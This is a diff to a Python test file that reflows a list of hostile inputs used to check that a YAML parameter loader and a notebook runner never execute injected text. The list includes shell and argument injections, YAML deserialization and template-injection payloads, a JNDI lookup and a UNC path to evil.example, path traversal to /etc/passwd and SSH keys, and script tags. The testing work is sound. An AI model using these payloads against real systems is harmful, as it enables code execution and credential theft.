@@ -145,16 +145,22 @@ PAYLOADS = [
     "'); open('CANARY', 'w'); ('", "'''\nopen('CANARY', 'w')\n'''", "\\'; open('CANARY', 'w') #",
     "lambda: open('CANARY', 'w')", "exec(\"open('CANARY', 'w')\")", "\nimport os; os.system('touch CANARY')",
     "f\"{open('CANARY', 'w')}\"", "%%bash\ntouch CANARY", "!touch CANARY", "%run CANARY",
-    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "| touch CANARY", "&& touch CANARY #", "--upload-pack=touch CANARY",
+    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "| touch CANARY", "&& touch CANARY #",
+    "--upload-pack=touch CANARY",
     "-rf CANARY", "${IFS}touch${IFS}CANARY", "${jndi:ldap://evil.example/x}",
     "!!python/object/apply:os.system ['touch CANARY']", "!!python/name:os.system", "!!python/module:os",
-    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch CANARY']", "!!python/object/new:os.system [touch CANARY]",
+    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch CANARY']",
+    "!!python/object/new:os.system [touch CANARY]",
     "&a [*a]", "*alias", "<<: *a", "? [complex, key]", "--- {second: document}", "%YAML 9.9", "@reserved", "\t- tab",
-    "{{ cycler.__init__.__globals__.os.popen('touch CANARY') }}", "{% import os %}", "{0.__class__.__mro__}", "%(x)s %n %d",
+    "{{ cycler.__init__.__globals__.os.popen('touch CANARY') }}", "{% import os %}", "{0.__class__.__mro__}",
+    "%(x)s %n %d",
     "../../../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "file:///etc/passwd", "\\\\evil.example\\share",
-    "a\x00b", "\x1b[2J\x1b[31mred", "\u202egnp.txt", "\u2028cycle: other", "\r\ncycle: other", "\ufeff", "\x85x", "\U0001f600" * 500,
-    "a" * 200_000, "9" * 10_000, "-" + "9" * 10_000, "0x" + "f" * 10_000, "1e999999", "-.inf", ".nan", "[" * 3000, "{a: " * 500,
-    "a,b" * 20_000, "'" * 999, "\"" * 999, "\\" * 999, "<script>alert(1)</script>", "{{< env HOME >}}", "None", "[]", "{}", "",
+    "a\x00b", "\x1b[2J\x1b[31mred", "\u202egnp.txt", "\u2028cycle: other", "\r\ncycle: other", "\ufeff", "\x85x",
+    "\U0001f600" * 500,
+    "a" * 200_000, "9" * 10_000, "-" + "9" * 10_000, "0x" + "f" * 10_000, "1e999999", "-.inf", ".nan",
+    "[" * 3000, "{a: " * 500,
+    "a,b" * 20_000, "'" * 999, "\"" * 999, "\\" * 999, "<script>alert(1)</script>", "{{< env HOME >}}", "None",
+    "[]", "{}", "",
 ]  # fmt: skip
 """Code of every language that could be meant, paths, control characters, and what is too long or too deep."""
 
@@ -231,7 +237,8 @@ def test_hostile_text_that_is_allowed_reaches_a_notebook_as_that_text(tmp_path: 
     texts = [text.replace("CANARY", str(canary)) for text in PAYLOADS if len(text) < 1000]
     params = load_cycle(write_params(tmp_path / "p.yaml", smoke_data(summary="".join(texts))))
     assert params.summary == "".join(texts)
-    body = f"from husai_lib.files import write_json\nfrom pathlib import Path\nwrite_json(Path({str(tmp_path / 'got.json')!r}), texts)"
+    write = f"write_json(Path({str(tmp_path / 'got.json')!r}), texts)"
+    body = f"from husai_lib.files import write_json\nfrom pathlib import Path\n{write}"
     execute(notebook(tmp_path / "in.ipynb", "texts = []", body), tmp_path / "out.ipynb", {"texts": texts})
     assert read_json(tmp_path / "got.json") == texts
     assert not canary.exists()
